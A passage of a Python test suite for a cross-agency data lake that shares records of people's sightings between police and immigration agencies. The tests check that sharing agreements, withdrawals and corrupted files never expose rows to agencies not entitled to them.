    touched), and the new mart's time, and its cross-agency matches no longer flagged new,
    told Thailand's analysts that something they may not see had arrived (found by a helper
    playing the curious analyst; a soak of 40 scheduled runs counted the churn). Now an
    audience that sees nothing new keeps both, byte for byte; a drop that changes only what its
    stewards see (its own quarantined rows) republishes its mart with those tables alone; and
    the next drop it does see is updated in place from the version it kept."""
    _folder, lake, store = _sightings_lake(tmp_path, monkeypatch)

    def send(name: str, body: str) -> dict:
        path = tmp_path / name
        path.write_text("sid,name,phone,rel\n" + body)
        deliver(store, "mm_police", "sightings", [path])
        # a few records: the incremental run is not declined for their share of the lake
        summary = run(Settings(lake=lake, drop_workers=0, incremental_max_share=0.9))
        assert not summary.problems, summary.problems
        return summary.as_json()

    def state(audience: str) -> tuple:
        mart = marts.latest(store, audience)
        pointer = versions.read_pointer(store, layout.resolution_prefix(audience))
        return mart["version"], mart["built_at"], mart["sha256"], pointer

    def keys(audience: str) -> list[str]:
        con = marts.open_latest(store, audience)
        try:
            return [r[0] for r in con.execute(
                "SELECT source_key FROM entity_record ORDER BY 1").fetchall()]
        finally:
            con.close()

    send("a.csv", "S1,TUN TUN NAING,0977111222,\nS2,MYA MYA HLAING,0977111333,\n")
    thai, myanmar, china = state("th_imm"), state("mm_police"), state("cn_mps")
    # a sighting for Myanmar alone: Thailand's resolution and mart stay, and so do those of
    # China, which sees no row at all (an agency that joined and has sent nothing yet: its mart
    # was made again on every run)
    two = send("b.csv", "S3,KYAW ZIN OO,0977111444,mm_police\n")
    assert state("th_imm") == thai
    assert state("cn_mps") == china
    assert state("mm_police") != myanmar and keys("mm_police") == ["S1", "S2", "S3"]
    assert "th_imm" not in two["marts"] and "mm_police" in two["marts"]
    assert two["marts_kept"] == ["cn_mps", "th_imm"]  # and the summary says so
    [mode] = [m for group, m in two["resolve_mode"].items() if "th_imm" in group.split("+")]
    assert mode["mode"] == "unchanged", two["resolve_mode"]
    # a drop of Myanmar's whose every row is quarantined: Myanmar's stewards see it in their
    # mart, republished with its stewards' tables alone; Thailand's sees nothing of it
    myanmar = state("mm_police")
    three = send("c.csv", "S9,,0977111555,\n")
    assert state("th_imm") == thai and state("mm_police") != myanmar
    build = three["mart_builds"]["mm_police"]
    assert build["mode"] == "updated" and build["why"].startswith("its stewards' tables only")
    con = marts.open_latest(store, "mm_police")
    try:
        assert con.execute("SELECT count(*) FROM quarantine").fetchall() == [(1,)]
    finally:
        con.close()
    # the next sighting Thailand sees updates its mart in place from the version it kept
    four = send("d.csv", "S4,AUNG KO,0977111666,\n")
    assert keys("th_imm") == ["S1", "S2", "S4"]
    assert four["mart_builds"]["th_imm"]["why"].endswith(f"version {thai[0]}"), four
    con = marts.open_latest(store, "th_imm")
    try:
        [(shown,)] = con.execute("SELECT resolution_version FROM mart_info").fetchall()
    finally:
        con.close()
    assert versions.read_pointer(store, layout.resolution_prefix("th_imm"))[
        "version"] == shown


@pytest.mark.slow
def test_a_narrowed_agreement_withdraws_rows_shared_before_it_and_a_lifted_one_restores_them(
        tmp_path, monkeypatch):
    """Myanmar's police share sightings with Thailand, then agree to share them with no one:
    the run said "nothing new", and even `run --full` left Thailand every sighting sent before
    (a hostile walk of 2026-12-07). The agreement is a standing cap: every run applies it to
    the rows staged before it too, so the next run withdraws them from Thailand's mart and
    resolution (Myanmar's own are untouched), the run after is a no-op, a sighting Thailand may
    not see leaves its mart as it was, and lifting the agreement shows again the rows staged
    before it (under the feed's wider list), not those it capped as they were staged."""
    folder, lake, store = _sightings_lake(tmp_path, monkeypatch)
    sent = tmp_path / "a.csv"
    sent.write_text("sid,name,phone,rel\nS1,TUN TUN NAING,0977111222,\n"
                    "S2,MYA MYA HLAING,0977111333,\n")
    deliver(store, "mm_police", "sightings", [sent])

    def shown(audience: str) -> list[str]:
        con = marts.open_latest(store, audience)
        try:
            return [r[0] for r in con.execute(
                "SELECT source_key FROM entity_record WHERE feed = 'sightings' "
                "ORDER BY 1").fetchall()]
        finally:
            con.close()

    def resolved(audience: str) -> int:
        return zones.read_resolution(store, audience=audience)["entity_record"].height

    assert not run(Settings(lake=lake, drop_workers=0)).problems
    assert shown("th_imm") == shown("mm_police") == ["S1", "S2"]
    agreement = folder / "sharing.yaml"
    agreement.write_text("agency: mm_police\nfeeds:\n  sightings: [mm_police]\n")
    summary = run(Settings(lake=lake, drop_workers=0))
    assert not summary.problems and not summary.noop, summary.problems
    assert shown("th_imm") == [] and resolved("th_imm") == 0
    assert shown("mm_police") == ["S1", "S2"]
    assert run(Settings(lake=lake, drop_workers=0)).noop
    # the narrowed mart's version lost (a partial restore): its pointer goes back to the
    # version before, which showed the sightings, and the marts are made again, not served so
    lost = marts.latest(store, "th_imm")["version"]
    for key in store.list(f"marts/th_imm/{lost}/"):
        store.delete(key)
    summary = run(Settings(lake=lake, drop_workers=0))
    assert any(n.startswith(f"clean start: marts/th_imm/LATEST named version {lost}")
               for n in summary.notes), summary.notes
    assert shown("th_imm") == []
    # Thailand now sees no sighting: one more, which it may not see, leaves its mart as it was
    thai = marts.latest(store, "th_imm")["version"]
    more = tmp_path / "b.csv"
    more.write_text("sid,name,phone,rel\nS3,KYAW ZIN OO,0977111444,\n")
    deliver(store, "mm_police", "sightings", [more])
    summary = run(Settings(lake=lake, drop_workers=0))
    assert "th_imm" in summary.marts_kept and marts.latest(store, "th_imm")["version"] == thai
    assert shown("mm_police") == ["S1", "S2", "S3"]
    # an agreement that can no longer be applied, a feed file broken or retired: the rows
    # staged before stay capped (the caps of loaded feeds alone uncapped them; a second
    # hostile walk of the same day)
    feed_file = folder / "sightings.yaml"
    for agreement_text, feed_text in (
            ("agency: mm_police\nfeeds:\n  sightings: [mm_police]\n  sighting: [th_imm]\n",
             SIGHTINGS),
            ("agency: mm_police\nfeeds:\n  sightings: [mm_police]\n",
             SIGHTINGS.replace("[mm_police, th_imm]", "[mm_police, th_imn]")),
            ("agency: mm_police\ndefault: [mm_police]\n", None)):
        agreement.write_text(agreement_text)
        if feed_text is None:
            feed_file.unlink()
        else:
            feed_file.write_text(feed_text, encoding="utf-8")
        run(Settings(lake=lake, drop_workers=0))
        assert shown("th_imm") == [], agreement_text
    feed_file.write_text(SIGHTINGS, encoding="utf-8")
    # lifted: what was staged before it is shown again; S3, capped as it was staged, is not
    agreement.unlink()
    assert not run(Settings(lake=lake, drop_workers=0)).noop
    assert shown("th_imm") == ["S1", "S2"]


@pytest.mark.slow
def test_an_agency_that_left_has_its_mart_made_empty_when_its_rows_are_withdrawn(
        tmp_path, monkeypatch):
    """Laos received a sighting by its row's own cell; then it left (its agreement removed) and
    Myanmar capped its sightings to itself and Thailand. Laos' resolution became empty, but
    its mart went on showing the sighting and its phone (a hostile walk of 2026-12-07)."""
    feeds = tmp_path / "feeds"
    (feeds / "mm_police").mkdir(parents=True)
    (feeds / "mm_police" / "sightings.yaml").write_text(SIGHTINGS, encoding="utf-8")
    (feeds / "la_police").mkdir()
    (feeds / "la_police" / "sharing.yaml").write_text("agency: la_police\n")
    monkeypatch.setenv("FUSIONLAKE_FEEDS_PATH", str(feeds))
    lake = str(tmp_path / "lake")
    store = open_store(lake)
    sent = tmp_path / "a.csv"
    sent.write_text("sid,name,phone,rel\nS1,TUN TUN NAING,0977111222,la_police\n")
    deliver(store, "mm_police", "sightings", [sent])
    assert not run(Settings(lake=lake, drop_workers=0)).problems

    def seen(audience: str) -> list[tuple]:
        con = marts.open_latest(store, audience)
        try:
            return con.execute("SELECT (SELECT count(*) FROM entity_record), "
                               "(SELECT count(*) FROM entity_phone)").fetchall()
        finally:
            con.close()

    assert seen("la_police") == [(1, 1)]
    (feeds / "la_police" / "sharing.yaml").unlink()
    (feeds / "mm_police" / "sharing.yaml").write_text(
        "agency: mm_police\ndefault: [mm_police, th_imm]\n")
    run(Settings(lake=lake, drop_workers=0))
    assert seen("la_police") == [(0, 0)]
    assert seen("mm_police") == [(1, 1)]


@pytest.mark.slow
def test_an_audience_that_sees_one_record_keeps_its_mart_when_nothing_it_sees_changed(
        tmp_path, monkeypatch):
    """A resolution of one record keeps no state (there is nothing to pair), so it was never
    "unchanged": Thailand, seeing one sighting, got a new resolution and mart at every drop of
    Myanmar's it may not see, a clock of Myanmar's deliveries (a hostile walk of 2026-12-07)."""
    _folder, lake, store = _sightings_lake(tmp_path, monkeypatch)
    for name, row in (("a.csv", "S1,TUN TUN NAING,0977111222,"),
                      ("b.csv", "S2,KYAW ZIN OO,0977111444,mm_police")):
        sent = tmp_path / name
        sent.write_text(f"sid,name,phone,rel\n{row}\n")
        deliver(store, "mm_police", "sightings", [sent])
        summary = run(Settings(lake=lake, drop_workers=0, incremental_max_share=0.9))
        assert not summary.problems, summary.problems
        if name == "a.csv":
            thai = (marts.latest(store, "th_imm"),
                    versions.read_pointer(store, layout.resolution_prefix("th_imm")))
    assert "th_imm" in summary.marts_kept
    assert (marts.latest(store, "th_imm"),
            versions.read_pointer(store, layout.resolution_prefix("th_imm"))) == thai


@pytest.mark.slow
@pytest.mark.parametrize("damage", ["staged file", "ledger event"])
def test_a_narrowing_re_send_that_does_not_count_brings_no_wider_row_back(tmp_path, monkeypatch,
                                                                          damage):
    """Myanmar re-sends a sighting for itself alone, withdrawing it from Thailand. Then the
    re-send stops counting: a staged file of it cannot be read (the drop is held), or its
    ledger's newest event is written over (it is left out). Either way the earlier, wider row
    came back, and Thailand saw the sighting and its phone again (a hostile walk of
    2026-12-07). Until the re-send counts again, the rows it may replace are its sender's
    alone."""
    _folder, lake, store = _sightings_lake(tmp_path, monkeypatch)

    def send(name: str, rows: str):
        path = tmp_path / name
        path.write_text("sid,name,phone,rel\n" + rows)
        deliver(store, "mm_police", "sightings", [path])
        return run(Settings(lake=lake, drop_workers=0))

    def thai() -> list[tuple]:
        con = marts.open_latest(store, "th_imm")
        try:
            return con.execute("SELECT source_key FROM entity_record ORDER BY 1").fetchall()
        finally:
            con.close()

    send("a.csv", "S1,TUN TUN NAING,0977111222,\nS2,MYA MYA HLAING,0977111333,\n")
    assert thai() == [("S1",), ("S2",)]
    send("b.csv", "S1,TUN TUN NAING,0977111222,mm_police\n")
    assert thai() == [("S2",)]
    [narrowing] = [e for e in Ledger(store).entries() if e.file_name == "b.csv"]
    if damage == "staged file":
        key = layout.staged_key("phone", "mm_police", "sightings", narrowing.drop_id)
        store.path(key).write_bytes(b"PAR1 written over")
    else:
        [*_, last] = sorted(store.list(f"ledger/drops/{narrowing.drop_id}/"))
        store.path(last).write_bytes(b"{written over")
    summary = send("c.csv", "S3,KYAW ZIN OO,0977111444,\n")
    assert summary.problems  # and says why
    assert thai() == [("S2",), ("S3",)]
